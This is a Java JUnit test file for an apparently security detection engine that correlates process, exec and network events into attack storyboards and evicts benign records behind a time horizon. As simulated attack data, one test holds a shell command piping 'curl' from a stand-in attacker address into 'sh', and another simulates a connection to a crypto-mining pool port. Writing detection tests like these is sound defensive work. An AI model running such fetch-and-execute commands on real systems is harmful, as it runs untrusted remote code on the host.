package io.sightline.engine;

import static io.sightline.engine.Events.container;
import static io.sightline.engine.Events.process;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.asset.Inventory;
import io.sightline.event.ContainerContext;
import io.sightline.event.ProcessRef;
import io.sightline.event.RuntimeEvent;
import io.sightline.event.SourceRecord;
import io.sightline.storyboard.Storyboard;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * What the engine keeps of the benign activity around an attack once it is behind the link
 * horizon (30 s of lateness and 5 s of clock skew by default), where no record still to come can
 * link to it: a process's repeated connects to one remote end become the first with a count, and
 * an exited process goes unless a process it started is still held.
 */
class LinkHorizonStoriesTest {

    private static final Optional<ContainerContext> ORDERS = container("aaaa", "payments", "orders-api-1");

    private final Events events = new Events();
    private final StoryboardEngine engine =
            new StoryboardEngine(new Inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
    private final ProcessRef shim =
            process("node-1", 100, -900, "/usr/bin/containerd-shim-runc-v2", "", Optional.empty());
    private final ProcessRef java = process("node-1", 101, -800, "/opt/java/bin/java", "-jar app.jar", ORDERS);
    private int jobs;

    @Test
    void aServersCallbackLongBeforeItsShellStillJoinsAndItsRepeatIsCountedNotKept() {
        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        int lookup = feed(events.connect(java, 2, "10.0.1.10:41000", "203.0.113.9:1389"));
        int again = feed(events.connect(java, 3, "10.0.1.10:41001", "203.0.113.9:1389"));
        List<Integer> database = new ArrayList<>();
        for (int i = 0; i < 100; i++) {
            database.add(feed(events.connect(java, 4 + i, "10.0.1.10:" + (42_000 + i), "10.0.3.3:5432")));
        }
        ProcessRef shell = process("node-1", 600, 120, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", ORDERS);
        int shellExec = feed(events.exec(shell, java));
        int download = feed(events.connect(shell, 120.2, "10.0.1.10:43000", "203.0.113.9:80"));

        // At 120 s the horizon reaches back to 85 s: both lookups are behind it, so java keeps the
        // first connect to 203.0.113.9:1389 and counts the second. The shell dialling the same
        // address makes it an attacker address, which pulls that connect in.
        Storyboard attack = engine.storyboards().getFirst();
        assertThat(lines(attack)).contains(lookup, shellExec, download).doesNotContain(again);
        assertThat(lines(attack)).doesNotContainAnyElementsOf(database);
        assertThat(attack.trail())
                .extracting(Storyboard.TrailStep::text)
                .contains("java connects to 203.0.113.9:1389 (attacker address) (2 times)");
    }

    @Test
    void aShellThatExitedStaysWhileTheWorkerItStartedRunsSoALaterSeedFindsItsKubectlExec() {
        ProcessRef shell = process("node-1", 950, 100.5, "/bin/sh", "-c \"nohup /usr/local/bin/worker &\"", ORDERS);
        ProcessRef worker = process("node-1", 951, 100.8, "/usr/local/bin/worker", "", ORDERS);
        int kubectlExec = feed(events.kubectlExec(100.2, "alice@example.com", "payments", "orders-api-1"));
        int shellExec = feed(events.exec(shell, shim));
        feed(events.exec(worker, shell));
        feed(events.exit(shell, 101));
        job(200);

        // At 200 s the shell's exit is behind the horizon (165 s), but its worker still runs; at
        // 300 s the worker dials a mining pool port, which starts a trail that climbs to the shell
        // the kubectl exec opened.
        int pool = feed(events.connect(worker, 300, "10.0.1.10:43000", "198.51.100.7:3333"));

        Storyboard attack = engine.storyboards().getFirst();
        assertThat(lines(attack)).contains(kubectlExec, shellExec, pool);
        assertThat(attack.identities()).containsExactly("alice@example.com");
    }

    @Test
    void anExitedParentGoesWithTheLastProcessItStarted() {
        ProcessRef bash = process("node-1", 700, 1, "/bin/bash", "-c \"nohup ./sync &\"", ORDERS);
        ProcessRef sync = process("node-1", 701, 1.5, "/srv/sync", "", ORDERS);
        feed(events.exec(bash, shim));
        feed(events.exec(sync, bash));
        feed(events.exit(bash, 2));
        job(60);

        // The horizon reaches back to 25.1 s: bash exited before it but waits for sync, beside the
        // shim and the job.
        assertThat(engine.processCount()).isEqualTo(4);

        feed(events.exit(sync, 100));
        job(140);

        // Back to 105.1 s: sync goes, bash with it, and the first job (exited at 60.1 s); the shim
        // and the second job stay.
        assertThat(engine.processCount()).isEqualTo(2);
        assertThat(engine.evictedProcesses()).isEqualTo(3);
    }

    @Test
    void addressesNoFlowNamedForARetentionAreForgottenOnAnEndlessStream() {
        ProcessRef agent = process("node-1", 300, -10, "/usr/bin/agent", "", Optional.empty());
        for (int i = 0; i < 20_000; i++) {
            String remote = "192.0." + (i / 250) + "." + (i % 250) + ":443";
            feed(events.connect(agent, i * 0.36, "10.0.1.10:" + (20_000 + i), remote));
        }

        // Two hours, a new address every 0.36 s. The sweep, once per retention (300 s), forgets
        // the addresses no flow named for a retention, so those kept were named within the last
        // one or two retentions (833 to 1,667 of them), beside the local address every flow
        // names. Without it the engine would hold all 20,001.
        assertThat(engine.addressesKept()).isBetween(834, 1_668);
    }

    /** A short job on another node, an exec and an exit 0.1 s later: what moves the clock. */
    private void job(double seconds) {
        ProcessRef job = process("node-2", 10_000 + jobs++, seconds, "/bin/date", "", Optional.empty());
        feed(events.exec(job, null));
        feed(events.exit(job, seconds + 0.1));
    }

    private int feed(RuntimeEvent event) {
        engine.accept(event);
        return event.source().line();
    }

    private static Set<Integer> lines(Storyboard storyboard) {
        return storyboard.records().stream().map(SourceRecord::line).collect(Collectors.toSet());
    }
}
